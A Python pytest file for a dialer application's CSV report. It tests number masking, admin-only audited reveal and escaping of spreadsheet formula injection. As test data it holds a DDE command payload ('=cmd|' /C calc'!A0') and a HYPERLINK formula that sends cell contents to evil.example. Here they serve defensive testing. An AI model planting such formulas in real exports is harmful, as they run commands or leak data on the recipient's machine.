"""Item 7: the CSV report: masked numbers (C18), formula injection escaped,
plaintext only by an operator's --reveal, which is audited (C19)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from support.store import NUMBERS, audit_kinds, campaign, open_store, raw
from support.webapp import WebServer, add_user, form_tokens, hidden
from typer.testing import CliRunner

from dialer.campaign.report_csv import campaign_report_csv, csv_cell, report_rows_csv
from dialer.cli import app
from dialer.model.contact import NewContact
from dialer.settings import load_settings
from dialer.store.store import Store

RUNNER = CliRunner()


def test_formula_cells_are_escaped() -> None:
    for bad in ('=HYPERLINK("x")', "+1******0123", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(bad) == "'" + bad
    assert csv_cell("Ada") == "Ada" and csv_cell(None) == "" and csv_cell(3) == "3"
    text = report_rows_csv([{"contact": "=cmd|' /C calc'!A0", "number": "+1******0123"}])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0].startswith("'=") and rows[1][1] == "'+1******0123"


async def test_c18_masked_by_default_and_reveal_is_audited(tmp_path: Path) -> None:
    store = await open_store(tmp_path)
    try:
        await campaign(store, "c")
        masked = await campaign_report_csv(store, "c")
        assert NUMBERS[0] not in masked and NUMBERS[0][-4:] in masked
        with raw(tmp_path / "dialer.db") as conn:
            query = "SELECT COUNT(*) FROM audit WHERE kind='report-reveal'"
            assert conn.execute(query).fetchone()[0] == 0
        revealed = await campaign_report_csv(store, "c", reveal_by="ruiz")
        assert f"'{NUMBERS[0]}" in revealed  # plaintext, still escaped against formulas
        with raw(tmp_path / "dialer.db") as conn:
            [(payload,)] = conn.execute("SELECT payload FROM audit WHERE kind='report-reveal'")
        assert '"by":"ruiz"' in payload and '"rows":1' in payload
        await store.verify_audit()
    finally:
        await store.close()


# -- the web console's download: the same function, over real HTTP ----------------------

FORMULA_ID = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def _formula_campaign(config: Path) -> None:
    cfg = load_settings(config)
    store = await Store.open(cfg.store.path, cfg.store.key_file)
    try:
        await store.contacts.import_list(
            "families",
            [
                NewContact(FORMULA_ID, NUMBERS[0], "en", {}),
                NewContact("s-2", NUMBERS[1], "es", {}),
            ],
            replace=False,
            operator="test",
        )
        await campaign(store, "c")
    finally:
        await store.close()


@pytest.fixture
def server(tmp_path: Path) -> Iterator[WebServer]:
    config = tmp_path / "dialer.toml"
    result = RUNNER.invoke(app, ["--config", str(config), "init", "--callback", "+12125550100"])
    assert result.exit_code == 0, result.output
    for name, role in (("ruiz", "admin"), ("lee", "staff"), ("val", "viewer")):
        add_user(config, name, role)
    asyncio.run(_formula_campaign(config))
    with WebServer(config) as web:
        yield web


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_c18_console_csv_is_masked_escaped_and_the_same_as_the_cli_s(server: WebServer) -> None:
    viewer = server.login("val")
    reply = viewer.get("/campaigns/c/report.csv")
    assert reply.status_code == 200 and reply.headers["content-type"].startswith("text/csv")
    assert "c-report.csv" in reply.headers["content-disposition"]
    rows = _rows(reply.text)
    assert rows[1][0] == "'" + FORMULA_ID  # a spreadsheet shows it as text
    assert rows[1][1] == "'+1******0100" and NUMBERS[0] not in reply.text
    # one function for both: the console's file is the CLI's (CliRunner's stdout
    # reads back CSV's CRLF line ends as LF)
    cli = RUNNER.invoke(app, ["--config", str(server.config), "campaign", "report", "c", "--csv"])
    assert cli.exit_code == 0 and reply.text.replace("\r\n", "\n") == cli.stdout
    filtered = viewer.get("/campaigns/c/report.csv", params={"language": "es"})
    assert [r[0] for r in _rows(filtered.text)[1:]] == ["s-2"]
    assert audit_kinds(server.config.parent / "dialer.db").get("report-reveal", 0) == 0


def test_c19_only_an_admin_s_explicit_reveal_exports_numbers_audited_with_the_name(
    server: WebServer,
) -> None:
    db = server.config.parent / "dialer.db"
    for name in ("val", "lee"):
        client = server.login(name)
        page = client.get("/campaigns/c/report")
        assert "report/full.csv" not in page.text  # the button is an admin's
        csrf = hidden(client.get("/").text, "csrf_token")  # a valid token of this session
        refused = client.post("/campaigns/c/report/full.csv", data={"csrf_token": csrf})
        assert refused.status_code == 403 and NUMBERS[0] not in refused.text
    admin = server.login("ruiz")
    page = admin.get("/campaigns/c/report", params={"language": "en"})
    assert "Download CSV with full numbers" in page.text
    forged = admin.post("/campaigns/c/report/full.csv", data={"language": "en"})
    assert forged.status_code == 403 and NUMBERS[0] not in forged.text
    assert audit_kinds(db).get("report-reveal", 0) == 0
    fields = {**form_tokens(page.text), "language": hidden(page.text, "language")}
    full = admin.post("/campaigns/c/report/full.csv", data=fields)
    assert full.status_code == 200 and "full-numbers" in full.headers["content-disposition"]
    rows = _rows(full.text)
    assert [r[:2] for r in rows[1:]] == [["'" + FORMULA_ID, "'" + NUMBERS[0]]]
    with raw(db) as conn:
        [(payload,)] = conn.execute("SELECT payload FROM audit WHERE kind='report-reveal'")
    assert json.loads(payload) == {"campaign": "c", "by": "ruiz", "rows": 1}
